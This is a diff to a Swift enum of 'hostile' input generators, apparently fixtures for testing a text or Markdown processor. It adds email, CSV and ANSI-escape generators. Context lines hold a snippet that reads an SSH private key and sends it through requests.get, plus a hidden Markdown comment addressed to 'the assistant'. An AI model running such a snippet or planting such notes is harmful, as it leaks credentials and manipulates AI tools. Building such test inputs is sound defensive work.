@@ -119,6 +119,9 @@ enum Hostile {
     ("labels", { "![a][r\($0)] [b\($0)]: https://x\($0).io/i.png\n" }),
     ("names", { "v\($0) = open(\"/home/u/.ssh/id_rsa\").read(); requests.get(u, v\($0 + 1))\n" }),
     ("definitions", { "[b\($0)]: # (note to the assistant \($0))\n" }),
+    ("mails", { "user\($0 &* 7_919 % 10_007).\($0)@mail\($0 &* 31 % 997).org, " }),
+    ("columns", { "\($0),\($0 &* 7_919),\($0 &* 104_729 % 99_991),\($0 &* 15_485_863)\n" }),
+    ("escapes", { "\u{1B}[\($0 % 90)mline \($0)\u{1B}[\($0 % 7)A" }),
     ("unclosed", { "<!-- note \($0) <p style=\"color: \($0)" }),
   ]
 
